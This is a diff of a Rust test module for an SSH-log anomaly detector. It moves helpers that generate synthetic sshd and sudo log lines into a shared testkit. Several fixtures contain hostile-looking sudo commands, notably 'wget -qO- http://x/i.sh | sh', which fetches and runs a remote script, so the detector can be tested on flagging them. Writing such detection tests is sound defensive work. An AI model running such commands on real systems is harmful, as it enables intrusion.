@@ -375,6 +375,7 @@ mod tests {
     use super::*;
     use crate::analyze::{Analyzer, AnalyzerConfig, LogFormat};
     use crate::fingerprint::FEATURE_COUNT;
+    use crate::testkit::{alice_history, sshd_session};
 
     fn verdict(suspicious: bool, confidence: f32) -> Verdict {
         Verdict::flat(suspicious, confidence, FEATURE_COUNT)
@@ -406,52 +407,6 @@ mod tests {
         (alerts, judged)
     }
 
-    /// sshd lines of one login of `user` from `ip` on 2026-11-`day` at
-    /// `hh:mm`, lasting 20 minutes, with sudo `commands`.
-    fn session(
-        day: u32,
-        (hh, mm): (u32, u32),
-        pid: u32,
-        user: &str,
-        ip: &str,
-        typos: u32,
-        commands: &[&str],
-    ) -> Vec<String> {
-        let at = |m: u32| format!("Nov {day:2} {:02}:{:02}:{:02}", hh + (mm + m) / 60, (mm + m) % 60, 5);
-        let mut v = Vec::new();
-        for _ in 0..typos {
-            v.push(format!("{} host sshd[{pid}]: Failed password for {user} from {ip} port 50000 ssh2", at(0)));
-        }
-        v.push(format!("{} host sshd[{pid}]: Accepted password for {user} from {ip} port 50000 ssh2", at(0)));
-        v.push(format!(
-            "{} host sshd[{pid}]: pam_unix(sshd:session): session opened for user {user} by (uid=0)",
-            at(0)
-        ));
-        for c in commands {
-            v.push(format!("{} host sudo:   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={c}", at(1)));
-        }
-        v.push(format!("{} host sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}", at(20)));
-        v
-    }
-
-    fn alice_history() -> Vec<String> {
-        let mut lines = Vec::new();
-        for day in 1..=14 {
-            let hour = 9 + day % 7;
-            let ip = format!("198.51.100.{}", 20 + day);
-            lines.extend(session(
-                day,
-                (hour, 0),
-                1000 + day,
-                "alice",
-                &ip,
-                0,
-                &["/usr/bin/apt update", "/bin/systemctl restart nginx"],
-            ));
-        }
-        lines
-    }
-
     #[test]
     fn assess_builds_the_schema_two_vector_from_novelty_and_the_source_context() {
         let mut d = Detector::new(DetectConfig::default());
@@ -462,7 +417,7 @@ mod tests {
                 "Nov 16 03:00:0{i} host sshd[3000]: Failed password for {user} from 203.0.113.50 port 1 ssh2"
             ));
         }
-        lines.extend(session(16, (3, 0), 3001, "alice", "203.0.113.50", 0, &["/usr/bin/wget http://x/a"]));
+        lines.extend(sshd_session(16, (3, 0), 3001, "alice", "203.0.113.50", 0, &["/usr/bin/wget http://x/a"]));
         let config = AnalyzerConfig { reference_time: Some(1_796_083_200), ..AnalyzerConfig::default() };
         let mut analyzer = Analyzer::new(config);
         analyzer.record_auth_attempts();
@@ -497,7 +452,7 @@ mod tests {
     fn from_log_lines_a_mistyping_user_from_home_stays_normal() {
         let mut d = Detector::new(DetectConfig::default());
         let mut lines = alice_history();
-        lines.extend(session(16, (10, 30), 2000, "alice", "198.51.100.99", 2, &["/bin/systemctl restart nginx"]));
+        lines.extend(sshd_session(16, (10, 30), 2000, "alice", "198.51.100.99", 2, &["/bin/systemctl restart nginx"]));
         let (alerts, judged) = run(&mut d, &lines);
         assert!(alerts.is_empty());
         let sessions: Vec<_> = judged.iter().filter(|(o, _)| o.kind == ObservationKind::Session).collect();
@@ -513,7 +468,7 @@ mod tests {
     fn from_log_lines_a_new_network_at_three_with_wget_pipe_sh_is_suspicious() {
         let mut d = Detector::new(DetectConfig::default());
         let mut lines = alice_history();
-        lines.extend(session(
+        lines.extend(sshd_session(
             16,
             (3, 0),
             2001,
@@ -541,7 +496,15 @@ mod tests {
         let mut d = Detector::new(DetectConfig::default());
         d.set_session_rules(SessionRules::AccountChurn);
         let mut lines = alice_history();
-        lines.extend(session(16, (3, 0), 2001, "alice", "203.0.113.50", 0, &["/usr/bin/wget -qO- http://x/i.sh | sh"]));
+        lines.extend(sshd_session(
+            16,
+            (3, 0),
+            2001,
+            "alice",
+            "203.0.113.50",
+            0,
+            &["/usr/bin/wget -qO- http://x/i.sh | sh"],
+        ));
         let (_, judged) = run(&mut d, &lines);
         let (_, last) = judged.iter().rev().find(|(o, _)| o.kind == ObservationKind::Session).unwrap();
         assert!(last.novelty.as_ref().unwrap().escalates(), "the novelty is there, as features");
@@ -564,7 +527,15 @@ mod tests {
                 ));
             }
         }
-        lines.extend(session(21, (2, 0), 4000, "oracle", "203.0.113.7", 0, &["/usr/bin/wget http://203.0.113.9/x"]));
+        lines.extend(sshd_session(
+            21,
+            (2, 0),
+            4000,
+            "oracle",
+            "203.0.113.7",
+            0,
+            &["/usr/bin/wget http://203.0.113.9/x"],
+        ));
         let (alerts, judged) = run(&mut d, &lines);
         assert_eq!(alerts.len(), 1, "{alerts:?}");
         assert_eq!(alerts[0].kind, CampaignKind::SlowBruteForce);
